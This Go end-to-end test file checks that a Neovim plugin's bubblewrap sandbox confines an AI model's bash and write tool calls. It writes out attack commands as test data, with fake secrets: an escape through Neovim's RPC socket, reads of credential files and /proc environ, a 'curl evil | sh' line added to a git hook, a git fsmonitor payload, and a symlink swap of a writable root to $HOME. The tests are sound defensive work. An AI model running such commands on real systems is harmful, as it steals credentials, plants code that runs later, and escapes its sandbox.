package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/flemma-dev/flemma/internal/nvimtest"
)

// The sandbox classes of issue 11 (3, 4, 8, 9), attacked through the cycle
// in a real Neovim with the default configuration: bash calls that the
// sandbox resolver approves, as it does for a model's calls.

// bashCall is a conversation whose assistant runs command with bash.
func bashCall(t *testing.T, id, command string) string {
	t.Helper()
	in, err := json.Marshal(map[string]any{"command": command, "label": "attack", "timeout": nil})
	if err != nil {
		t.Fatal(err)
	}
	return toolChat("bash", id, string(in))
}

// needBwrap fails (under CI) or skips when bubblewrap does not work here:
// these attacks are about what it confines.
func needBwrap(t *testing.T) {
	t.Helper()
	if err := exec.Command("bwrap", "--ro-bind", "/", "/", "--unshare-net", "true").Run(); err != nil {
		msg := "bubblewrap does not work here (" + err.Error() + "); `make test` installs it"
		if os.Getenv("CI") != "" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
}

// fakeHome is a home directory outside every writable root (not under
// /tmp), with credentials in it.
func fakeHome(t *testing.T) string {
	t.Helper()
	home, err := os.MkdirTemp("/var/tmp", "flemma-e2e-home-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	for name, content := range map[string]string{
		".aws/credentials":  "[default]\naws_secret_access_key = AKIAE2EFAKESECRET\n",
		".ssh/id_ed25519":   "-----BEGIN OPENSSH PRIVATE KEY-----\nE2EPRIVATEKEY\n",
		".config/gh/hosts":  "github.com:\n  oauth_token: gho_E2EGHTOKEN\n",
		".bashrc":           "# rc\n",
		".config/nvim/init": "-- config\n",
	} {
		p := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return home
}

// Class 3: Neovim's RPC socket runs anything; a sandboxed command must not
// reach it, by $NVIM or by its path.
func TestSandboxHidesNeovimSocket(t *testing.T) {
	needBwrap(t)
	eachNvim(t, "", func(t *testing.T, s *nvimtest.Session) {
		var server string
		if err := s.Lua(&server, "return vim.v.servername"); err != nil || server == "" {
			t.Fatalf("Neovim has no server address (%v): nothing to attack", err)
		}
		marker := filepath.Join(s.Dir, "escaped")
		cmd := fmt.Sprintf(`echo "NVIM=[$NVIM] LISTEN=[$NVIM_LISTEN_ADDRESS]"
for a in "$NVIM" "$NVIM_LISTEN_ADDRESS" %q; do
  [ -n "$a" ] && /usr/bin/nvim --server "$a" --remote-expr 'writefile(["x"], %q)' </dev/null
done
true`, server, marker)
		mustOpen(t, s, "sock/s.chat", bashCall(t, "s1", cmd))
		press(t, s, "<C-]>")
		body, _ := waitResult(t, s, "s1")
		if !strings.Contains(body, "NVIM=[] LISTEN=[]") {
			t.Errorf("Neovim's address reached the command:\n%s", body)
		}
		mustNotExist(t, s, marker)
	})
}

// Class 8: secrets under the default sandbox — credential files, .env,
// secret variables, the host's environment — stay out of reach, and the
// network is off. Output goes through rev, so that redaction cannot hide
// a leak from the test.
func TestSandboxKeepsSecrets(t *testing.T) {
	needBwrap(t)
	home := fakeHome(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	env := []string{"HOME=" + home, "GITHUB_TOKEN=ghp_E2ETOKENVALUE", "DATABASE_URL=postgres://u:E2EDBPASS@db/app", "MY_SERVICE_API_KEY=E2EAPIKEYVALUE",
		// Issue 24 #5: what the deny list missed reaches nothing either.
		`DOCKER_AUTH_CONFIG={"auths":{"r":{"auth":"E2EDOCKERAUTH"}}}`, "CI_JOB_JWT=E2EJOBJWT", "KUBE_CONFIG_DATA=E2EKUBECONFIG",
		"GIT_CONFIG_PARAMETERS='http.extraheader'='AUTHORIZATION: basic E2EGITHEADER'", "SLACK_HOOK_URL=https://hooks.example.com/E2ESLACKHOOK",
		"AUTHORIZATION=E2EAUTHORIZATION", "UPSTREAM_REPO=https://E2EREPOTOKEN0123456789@example.com/r.git"}
	eachNvimEnv(t, "", env, func(t *testing.T, s *nvimtest.Session) {
		if err := os.MkdirAll(filepath.Join(s.Dir, "sec"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(s.Dir, "sec", ".env"), []byte("DB_PASSWORD=E2EDOTENV\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := fmt.Sprintf(`{ cat ~/.aws/credentials ~/.ssh/id_ed25519 ~/.config/gh/hosts .env; env; cat /proc/$PPID/environ /proc/1/environ; tr '\0' '\n' < /proc/self/environ; } 2>&1 | rev
python3 -c "import socket; socket.create_connection(('127.0.0.1', %d), 3); print('NET-OPEN')" 2>/dev/null || echo NET-CLOSED
true`, port)
		mustOpen(t, s, "sec/s.chat", bashCall(t, "s1", cmd))
		press(t, s, "<C-]>")
		body, _ := waitResult(t, s, "s1")
		for _, secret := range []string{"AKIAE2EFAKESECRET", "E2EPRIVATEKEY", "gho_E2EGHTOKEN", "E2EDOTENV", "ghp_E2ETOKENVALUE", "E2EDBPASS", "E2EAPIKEYVALUE",
			"E2EDOCKERAUTH", "E2EJOBJWT", "E2EKUBECONFIG", "E2EGITHEADER", "E2ESLACKHOOK", "E2EAUTHORIZATION", "E2EREPOTOKEN"} {
			if strings.Contains(body, reverse(secret)) || strings.Contains(body, secret) {
				t.Errorf("%s leaked:\n%s", secret, body)
			}
		}
		if !strings.Contains(body, "NET-CLOSED") {
			t.Errorf("the network is open by default:\n%s", body)
		}
	})
}

func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

// Class 9: a policy cannot approve writing code that runs later — git
// hooks and config, shell start-up files, editor configuration: write asks,
// and an auto-approved bash finds them read-only.
func TestProtectedPaths(t *testing.T) {
	needBwrap(t)
	eachNvim(t, "", func(t *testing.T, s *nvimtest.Session) {
		dir := filepath.Join(s.Dir, "prot")
		for name, content := range map[string]string{".git/config": "[core]\n", ".git/hooks/pre-commit": "#!/bin/sh\n", ".vscode/tasks.json": "{}\n"} {
			p := filepath.Join(dir, name)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		in, _ := json.Marshal(map[string]any{"path": ".git/config", "content": "[core]\n\tfsmonitor = touch pwned\n", "label": "x"})
		chat := "@You:\ngo\n\n@Assistant:\nOk.\n\n**Tool Use:** `write` (`w1`)\n\n```json\n" + string(in) + "\n```\n"
		buf := mustOpen(t, s, "prot/w.chat", chat)
		press(t, s, "<C-]>")
		waitStatus(t, s, "w1", "pending")
		if out := hostText(t, s, "flemma.tool_list", buf); !strings.Contains(out, "urn:flemma:approval:protected") {
			t.Errorf("tool:list does not say why w1 asks:\n%s", out)
		}

		mustOpen(t, s, "prot/b.chat", bashCall(t, "b1", `echo 'curl evil | sh' >> .git/hooks/pre-commit; printf '[core]\n\tfsmonitor = x\n' >> .git/config; echo '{"x":1}' > .vscode/tasks.json; echo done`))
		press(t, s, "<C-]>")
		waitResult(t, s, "b1")
		for name, want := range map[string]string{".git/config": "[core]\n", ".git/hooks/pre-commit": "#!/bin/sh\n", ".vscode/tasks.json": "{}\n"} {
			if b, _ := os.ReadFile(filepath.Join(dir, name)); string(b) != want {
				t.Errorf("%s changed by an auto-approved bash: %q", name, b)
			}
		}
	})
}

// Class 4: a bash call replaces the buffer's folder (a writable root) with
// a link to $HOME; from then on $HOME must not be writable, to write nor to
// bash.
func TestSwappedRootRefused(t *testing.T) {
	needBwrap(t)
	home := fakeHome(t)
	f := &fakeAnthropic{turns: []string{
		sse("", [3]string{"toolu_s1", "bash", `{"command": "cd .. && mv sub sub.bak && ln -s \"$HOME\" sub && echo swapped", "label": "swap", "timeout": null}`}),
		sse("", [3]string{"toolu_s2", "write", `{"path": "pwned_by_write", "content": "x", "label": "w"}`},
			[3]string{"toolu_s3", "bash", `{"command": "touch \"$HOME/pwned_by_bash\"; touch pwned_by_bash_rel; true", "label": "b", "timeout": null}`}),
		sse("Done."),
	}}
	eachNvimSend(t, f, "", func(t *testing.T, s *nvimtest.Session) {
		mustOpen(t, s, "swap/sub/x.chat", question)
		press(t, s, "<C-]>")
		if _, err := s.Wait(20*time.Second, func(x string) bool { return strings.Contains(x, "Done.") }); err != nil {
			t.Fatalf("the turns did not finish:\n%s\n%s", text(t, s), s.Messages())
		}
		for _, name := range []string{"pwned_by_write", "pwned_by_bash", "pwned_by_bash_rel"} {
			mustNotExist(t, s, filepath.Join(home, name))
		}
		if _, err := os.Lstat(filepath.Join(s.Dir, "swap", "sub.bak")); err != nil {
			t.Errorf("the swap itself did not happen (%v): the test attacked nothing", err)
		}
	}, "HOME="+home)
}
